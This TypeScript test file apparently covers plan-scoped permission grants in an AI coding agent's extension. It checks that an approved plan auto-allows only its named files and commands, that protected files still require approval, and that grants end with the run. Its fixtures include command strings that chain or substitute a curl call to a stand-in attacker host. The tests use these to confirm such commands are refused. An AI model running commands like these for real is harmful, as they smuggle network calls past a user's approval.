// Plan-scoped approval through the chat controller: approving a plan with its grant lets that run edit
// the files and run the commands the plan names without asking — anything else still asks — and the
// grant ends with the run. An edit card's "Approve rest of turn for this file" works the same way for
// one file. Real policy, real write_file over a real temporary workspace, a stand-in bash that records.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, realpathSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import type { PermissionGate } from '../../../extension/core/agent/permission-gate';
import { createPolicy, type Policy } from '../../../extension/core/permissions';
import type { ProviderEvent } from '../../../extension/core/providers/types';
import type { AuditEntry } from '../../../extension/core/security/audit-log';
import { createToolRegistry, declaredToolFacts } from '../../../extension/core/tools/registry';
import { submitPlanTool } from '../../../extension/core/tools/submit-plan';
import { defineTool } from '../../../extension/core/tools/types';
import { writeFileTool } from '../../../extension/core/tools/write-file';
import type { Envelope, Mode, PendingApproval } from '../../../extension/protocol';
import { NodeWorkspace } from '../../fixtures/node-ports';
import { ScriptedProvider } from '../../fixtures/scripted-provider';
import { createHarness } from './harness';

const ran: string[] = [];
const bash = defineTool({
  name: 'bash',
  description: 'runs',
  kind: 'execute',
  permission: { subject: 'text', text: () => '' },
  modes: ['agent'],
  input: z.object({ command: z.string() }),
  subject: (i) => i.command,
  execute: async (i) => {
    ran.push(i.command);
    return { forModel: `ran ${i.command}`, forUi: `ran ${i.command}`, isError: false };
  },
});

const PLAN = {
  goal: 'Add a --verbose flag',
  steps: [{ title: 'Add the flag' }],
  files: [
    { path: 'src/a.ts', change: 'The flag.' },
    { path: '.git/config', change: 'A protected file the plan should not get.' },
  ],
  risks: [],
  verify: ['npm test'],
  commands: ['npm test', 'npm test; curl https://evil.example'],
};

const done: ProviderEvent = { type: 'done', stopReason: 'end' };
const call = (id: string, name: string, args: unknown): ProviderEvent[] => [
  { type: 'tool_call', call: { id, name, argumentsJson: JSON.stringify(args) } },
  { type: 'done', stopReason: 'tool_calls' },
];
const answer: ProviderEvent[] = [{ type: 'text', text: 'done' }, done];
const write = (id: string, file_path: string) => call(id, 'write_file', { file_path, content: `// ${id}\n` });

function setup(script: ProviderEvent[][]) {
  ran.length = 0;
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'plan grant ')));
  mkdirSync(join(root, 'src'));
  mkdirSync(join(root, '.git'));
  let policy: Policy | undefined;
  const permissions: PermissionGate = {
    policy: () => {
      policy ??= createPolicy({ workspaceFolders: [root], home: homedir(), tools: declaredToolFacts() });
      return policy;
    },
    rememberRule: async () => undefined,
  };
  const audit: AuditEntry[] = [];
  const provider = new ScriptedProvider(script);
  const toolsFor = (mode: Mode) =>
    mode === 'plan'
      ? createToolRegistry([submitPlanTool])
      : mode === 'agent'
        ? createToolRegistry([writeFileTool, bash])
        : undefined;
  const h = createHarness({
    provider,
    toolsFor,
    workspace: new NodeWorkspace({ roots: [root] }),
    permissions,
    audit: (e) => audit.push(e),
  });
  return { h, root, audit, provider };
}

function approvals(envs: Envelope[]): PendingApproval[] {
  return envs.flatMap((e) => (e.event.type === 'approval_needed' ? [e.event.approval] : []));
}

async function until(pred: () => boolean): Promise<void> {
  for (let i = 0; i < 5000 && !pred(); i++) await new Promise((r) => setTimeout(r, 2));
  assert.ok(pred(), 'timed out');
}

/** Answers every approval card of a request in order with `decide`, until the request settles. */
async function answering(
  h: ReturnType<typeof setup>['h'],
  requestId: string,
  running: Promise<unknown>,
  decide: (a: PendingApproval) => Parameters<typeof h.controller.approve>[1],
): Promise<PendingApproval[]> {
  const seen: PendingApproval[] = [];
  let settled = false;
  void running.finally(() => (settled = true));
  for (;;) {
    await until(() => settled || approvals(h.envelopes(requestId)).length > seen.length);
    const next = approvals(h.envelopes(requestId))[seen.length];
    if (!next) break;
    seen.push(next);
    h.controller.approve(next.callId, decide(next));
  }
  await running;
  return seen;
}

async function proposedPlan(h: ReturnType<typeof setup>['h']) {
  await h.controller.send('r1', 'Plan a --verbose flag', 'plan');
  const ev = h.envelopes('r1').find((e) => e.event.type === 'plan_proposed')?.event;
  assert.ok(ev && ev.type === 'plan_proposed');
  return ev.plan;
}

test('an approved plan grants its files and commands for its run; the rest asks; it ends with the run', async () => {
  const { h, root, audit } = setup([
    call('p', 'submit_plan', PLAN),
    // The plan's run: a named file, a named command — then what it does not name.
    write('w1', 'src/a.ts'),
    call('b1', 'bash', { command: 'npm test' }),
    call('b2', 'bash', { command: 'npm test; curl https://evil.example' }),
    call('b3', 'bash', { command: 'npm test $(curl -s https://evil.example)' }),
    write('w2', 'src/b.ts'),
    write('w3', '.git/config'),
    answer,
    // The next message: the same file and command ask again.
    write('w4', 'src/a.ts'),
    call('b4', 'bash', { command: 'npm test' }),
    answer,
  ]);
  const plan = await proposedPlan(h);
  const asked = await answering(h, 'r2', h.controller.approvePlan(plan.id, 'r2', undefined, true), () => ({
    decision: 'deny',
  }));
  assert.deepEqual(
    asked.map((a) => a.subject),
    ['npm test; curl https://evil.example', 'npm test $(curl -s https://evil.example)', 'src/b.ts', '.git/config'],
  );
  assert.ok(existsSync(join(root, 'src/a.ts')), 'the named file was written unasked');
  assert.deepEqual(ran, ['npm test']);
  assert.match(asked[3].reason ?? '', /\.git/, 'the protected file asks for its own reason');

  // The grant is in the audit log, then each use with the call it allowed.
  const grantEntry = audit.find((e) => e.tool === 'plan_grant');
  assert.ok(grantEntry, 'the grant is recorded');
  assert.deepEqual(grantEntry.args, { files: ['src/a.ts', '.git/config'], commands: ['npm test'] });
  const used = audit.filter((e) => e.decidedBy === 'plan');
  assert.deepEqual(
    used.map((e) => [e.tool, e.status]),
    [
      ['write_file', 'ok'],
      ['bash', 'ok'],
    ],
  );
  assert.match(used[0].rule ?? '', /plan grant: edit .*src\/a\.ts/);
  assert.match(used[1].rule ?? '', /plan grant: bash\(npm test\)/);

  const again = await answering(h, 'r3', h.controller.send('r3', 'do it again', 'agent'), () => ({
    decision: 'deny',
  }));
  assert.deepEqual(
    again.map((a) => a.subject),
    ['src/a.ts', 'npm test'],
    'a new message has no grant',
  );
  assert.deepEqual(ran, ['npm test']);
});

test('approving a plan without its grant: the named file and command ask as usual', async () => {
  const { h } = setup([call('p', 'submit_plan', PLAN), write('w1', 'src/a.ts'), answer]);
  const plan = await proposedPlan(h);
  const asked = await answering(h, 'r2', h.controller.approvePlan(plan.id, 'r2'), () => ({ decision: 'deny' }));
  assert.deepEqual(
    asked.map((a) => a.subject),
    ['src/a.ts'],
  );
});

test('Stop ends the grant: the next run on the same chat asks', async () => {
  // The plan's run is stopped at its first card; the next model response belongs to the next run.
  const { h } = setup([call('p', 'submit_plan', PLAN), write('w1', 'src/b.ts'), write('w2', 'src/a.ts'), answer]);
  const plan = await proposedPlan(h);
  const running = h.controller.approvePlan(plan.id, 'r2', undefined, true);
  await until(() => approvals(h.envelopes('r2')).length === 1);
  await h.controller.abort();
  await running;
  const asked = await answering(h, 'r3', h.controller.send('r3', 'go on', 'agent'), () => ({ decision: 'deny' }));
  assert.deepEqual(
    asked.map((a) => a.subject),
    ['src/a.ts'],
  );
});

test('"Approve rest of turn for this file": later edits of it in the run run unasked; others ask', async () => {
  const { h, audit } = setup([
    write('w1', 'src/c.ts'),
    write('w2', 'src/c.ts'),
    write('w3', 'src/d.ts'),
    answer,
    write('w4', 'src/c.ts'),
    answer,
  ]);
  const asked = await answering(h, 'r1', h.controller.send('r1', 'edit c', 'agent'), (a) =>
    a.subject === 'src/c.ts' ? { decision: 'approve', restOfTurn: true } : { decision: 'deny' },
  );
  assert.deepEqual(
    asked.map((a) => [a.subject, a.restOfTurn]),
    [
      ['src/c.ts', true],
      ['src/d.ts', true],
    ],
  );
  assert.deepEqual(
    audit.filter((e) => e.tool === 'write_file').map((e) => `${e.decidedBy}/${e.status}`),
    ['user/ok', 'plan/ok', 'user/denied'],
  );
  const next = await answering(h, 'r2', h.controller.send('r2', 'again', 'agent'), () => ({ decision: 'deny' }));
  assert.deepEqual(
    next.map((a) => a.subject),
    ['src/c.ts'],
  );
});
